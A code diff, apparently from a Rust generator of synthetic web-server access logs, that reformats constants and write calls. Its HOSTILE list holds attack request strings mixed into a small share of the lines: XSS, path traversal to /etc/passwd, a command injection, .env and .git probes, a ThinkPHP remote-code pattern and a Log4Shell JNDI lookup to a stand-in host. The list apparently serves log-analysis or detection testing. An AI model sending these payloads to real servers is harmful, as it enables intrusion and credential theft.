@@ -9,10 +9,27 @@ const LINE_BYTES: u64 = 250;
 const WEEK: u64 = 7 * 86_400;
 const SOURCES: u64 = 200_000;
 
-const SECTIONS: &[&str] = &["news", "notice", "department", "doctor", "guide", "service", "about", "culture", "science", "party"];
+const SECTIONS: &[&str] = &[
+    "news",
+    "notice",
+    "department",
+    "doctor",
+    "guide",
+    "service",
+    "about",
+    "culture",
+    "science",
+    "party",
+];
 const ASSETS: &[&str] = &[
-    "/static/css/main.css", "/static/js/jquery-3.6.0.min.js", "/static/js/app.js", "/static/img/logo.png",
-    "/static/img/banner-1.jpg", "/static/img/banner-2.jpg", "/favicon.ico", "/static/fonts/icon.woff2",
+    "/static/css/main.css",
+    "/static/js/jquery-3.6.0.min.js",
+    "/static/js/app.js",
+    "/static/img/logo.png",
+    "/static/img/banner-1.jpg",
+    "/static/img/banner-2.jpg",
+    "/favicon.ico",
+    "/static/fonts/icon.woff2",
 ];
 const AGENTS: &[&str] = &[
     "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{}.0.0.0 Safari/537.36",
@@ -29,7 +46,11 @@ const HOSTILE: &[&str] = &[
     "/search?q=%3Cscript%3Ealert({})%3C/script%3E",
     "/download?file=../../../../etc/passwd&n={}",
     "/cgi-bin/.%2e/.%2e/.%2e/bin/sh?{}",
-    "/.env?{}", "/.git/config?{}", "/wp-login.php?{}", "/phpmyadmin/index.php?{}", "/actuator/env?{}",
+    "/.env?{}",
+    "/.git/config?{}",
+    "/wp-login.php?{}",
+    "/phpmyadmin/index.php?{}",
+    "/actuator/env?{}",
     "/api/ping?host=127.0.0.1;cat%20/etc/passwd;{}",
     "/index.php?s=/index/think%5Capp/invokefunction&function=call_user_func_array&vars%5B0%5D=md5&vars%5B1%5D%5B%5D={}",
     "/?x=$%7Bjndi:ldap://198.51.100.7/{}%7D",
@@ -61,7 +82,11 @@ fn one(draw: &mut Draw, second: i64, line: &mut Vec<u8>) -> io::Result<()> {
     let (year, month, day, hour, minute, sec) = civil(second);
     let source = draw.skewed(SOURCES);
     let month = MONTHS.get(month).unwrap_or(&"Jan");
-    write!(line, "{} - - [{day:02}/{month}/{year}:{hour:02}:{minute:02}:{sec:02} +0000] ", address(source))?;
+    write!(
+        line,
+        "{} - - [{day:02}/{month}/{year}:{hour:02}:{minute:02}:{sec:02} +0000] ",
+        address(source)
+    )?;
     if draw.per_mille(12) {
         let id = draw.below(100_000).to_string();
         let target = draw.pick(HOSTILE).replace("{}", &id);
@@ -77,13 +102,27 @@ fn one(draw: &mut Draw, second: i64, line: &mut Vec<u8>) -> io::Result<()> {
 fn ordinary(draw: &mut Draw, line: &mut Vec<u8>) -> io::Result<()> {
     let section = *draw.pick(SECTIONS);
     let page = draw.skewed(5_000);
-    let status = if draw.per_mille(25) { 404 } else if draw.per_mille(120) { 304 } else { 200 };
+    let status = if draw.per_mille(25) {
+        404
+    } else if draw.per_mille(120) {
+        304
+    } else {
+        200
+    };
     let size = if status == 304 { 0 } else { 300 + draw.skewed(200_000) };
     match draw.below(10) {
         0..=4 => write!(line, "\"GET {} HTTP/1.1\" ", draw.pick(ASSETS))?,
         5..=6 => write!(line, "\"GET /{section}/{page}.html HTTP/1.1\" ")?,
-        7 => write!(line, "\"GET /{section}/list?page={}&size=20&t={} HTTP/1.1\" ", page % 40, draw.below(1 << 40))?,
-        8 => write!(line, "\"GET /search?keyword=%E4%BD%93%E6%A3%80{page}&type={section} HTTP/1.1\" ")?,
+        7 => write!(
+            line,
+            "\"GET /{section}/list?page={}&size=20&t={} HTTP/1.1\" ",
+            page % 40,
+            draw.below(1 << 40)
+        )?,
+        8 => write!(
+            line,
+            "\"GET /search?keyword=%E4%BD%93%E6%A3%80{page}&type={section} HTTP/1.1\" "
+        )?,
         _ => write!(line, "\"POST /api/{section}/query HTTP/1.1\" ")?,
     }
     if draw.per_mille(300) {
